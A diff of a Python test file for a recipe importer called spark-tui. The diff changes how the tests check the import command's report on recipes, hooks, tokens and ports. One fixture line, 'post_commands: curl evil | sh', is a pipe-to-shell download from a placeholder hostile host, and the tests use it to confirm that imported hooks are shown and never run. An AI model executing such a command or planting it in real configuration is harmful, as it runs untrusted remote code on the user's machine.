@@ -65,28 +65,19 @@ def place(tmp_path: Path) -> Place:
 def test_everything_is_told_of_every_recipe(place: Place) -> None:
     result = place.run("import", str(place.registry))
     assert result.code == 0
-    assert result.out == (
-        f"heron  imported from recipes/heron.yaml -> {place.own}/heron.yaml\n"
-        "  kept, not used by spark-tui\n"
-        "    - scheduler = spread\n"
-        "  hooks, shown and never run\n"
-        "    - post_commands: curl evil | sh\n"
-        f"otter  imported from recipes/otter.yaml -> {place.own}/otter.yaml\n"
-        "  changed\n"
-        "    - tensor_parallel is 1 instead of 2, as in eugr's solo mode.\n"
-        "  note\n"
-        '    - vllm-node is built on the machine by eugr\'s build-and-copy.sh (["--tf5"]); no registry has it. A ready'
-        " one for plain vllm-node: ghcr.io/spark-arena/dgx-vllm-eugr-nightly:latest\n"
-        "  kept, not used by spark-tui\n"
-        '    - build_args = ["--tf5"]\n'
-        "  needs\n"
-        "    - --set open=...\n"
-        "  mod mods/patch, not applied: mods/patch/run.sh\n"
-        "    | # Patches it.\n"
-        "    | patch -p1\n"
-    )
+    lines = result.out.splitlines()
+    for line in (
+        f"imported   heron from recipes/heron.yaml -> {place.own}/heron.yaml",
+        "not used   scheduler = spread",
+        "never run  post_commands: curl evil | sh",
+        "changed    tensor_parallel is 1 instead of 2, as in eugr's solo mode.",
+        "needs      a value for open",
+        "mod        mods/patch, not applied: mods/patch/run.sh",
+    ):
+        assert line in lines
+    assert [line for line in lines if "patch -p1" in line], "the script of a mod is shown"
     assert f"Skipped: {place.registry}/recipes/pulse.yaml:2: This is a spark-pulse recipe (version 2)" in result.err
-    assert "2 imported, 1 refused." in result.err
+    assert lines[0] == "2 imported, 1 refused"
     assert place.run("list", "--json").json[0]["id"] == "heron", "and they are presets from now on"
 
 
@@ -113,7 +104,7 @@ def test_one_recipe_that_is_refused_is_the_commands_error(place: Place) -> None:
 def test_a_second_import_changes_nothing_and_a_changed_one_asks(place: Place) -> None:
     file = str(place.registry / "recipes" / "heron.yaml")
     assert place.run("import", file).code == 0
-    assert "heron  unchanged from recipes/heron.yaml\n" in place.run("import", file).out
+    assert "unchanged  heron from recipes/heron.yaml\n" in place.run("import", file).out
     Path(file).write_text(V2.replace("4096", "8192"))
     result = place.run("import", file)
     assert result.code == 4
@@ -144,17 +135,12 @@ def test_a_script_with_a_docker_run_becomes_a_preset(place: Place, tmp_path: Pat
     script = tmp_path / "serve.sh"
     script.write_text(COMMAND)
     result = place.run("import", str(script))
-    assert (result.code, result.out) == (
-        0,
-        f"crane  imported from serve.sh -> {place.own}/crane.yaml\n"
-        "  changed\n"
-        "    - --rm is left out: an ended container is kept here, because its log says why it ended.\n"
-        "    - `HF_TOKEN` is not kept in the file: set HF_TOKEN in your shell or log in with `hf auth login`; "
-        "spark-tui passes it on from a private file.\n"
-        "    - Port 8000 is open to this machine alone; launch it with exposure=lan to open it.\n"
-        "    - ~/.cache/huggingface is replaced by spark-tui's model store (/store), which is /models there: what is "
-        "not in it yet is fetched at the launch.\n",
-    )
+    assert result.code == 0
+    assert f"imported  crane from serve.sh -> {place.own}/crane.yaml" in result.out
+    changed = [line for line in result.out.splitlines() if line.startswith("changed ")]
+    named = ("--rm", "`HF_TOKEN`", "Port 8000", "~/.cache/huggingface")
+    assert len(changed) == len(named)
+    assert all(any(each in line for line in changed) for each in named)
     assert "hf_" not in (place.own / "crane.yaml").read_text()
     shown = parse_text(place.world.run("up", "crane", "--set", "max_model_len=4096", "--dry-run").out)
     assert shown.command == ("acme/crane", "--max-model-len", "4096")
@@ -179,10 +165,10 @@ def test_a_guide_with_several_commands_is_imported_command_by_command(place: Pla
     guide.write_text(f"# Guide\n```bash\n{COMMAND}```\n\n```\ndocker run --rm --gpus all acme/cuda nvidia-smi\n```\n")
     result = place.run("import", str(guide))
     assert result.code == 0
-    assert "crane  imported from guide.md:6" in result.out
+    assert "imported  crane from guide.md:6" in result.out
     assert "guide.md:13" in result.err
     assert "starts no server" in result.err
-    assert "1 imported, 1 refused." in result.err
+    assert "1 imported, 1 refused" in result.out
 
 
 def test_a_text_without_a_recipe_says_what_it_should_be(place: Place) -> None:
@@ -288,7 +274,7 @@ def test_a_file_is_written_where_there_is_none(heron: Place, tmp_path: Path) -> 
     [
         (("without=port_x",), "cannot remove options"),
         (("max_model_len=no",), "whole number"),
-        (("nonsense=1",), "Unknown parameter"),
+        (("nonsense=1",), "Unknown parameter nonsense"),
     ],
 )
 def test_a_change_that_a_recipe_cannot_say_is_refused(heron: Place, settings: tuple[str, ...], says: str) -> None:
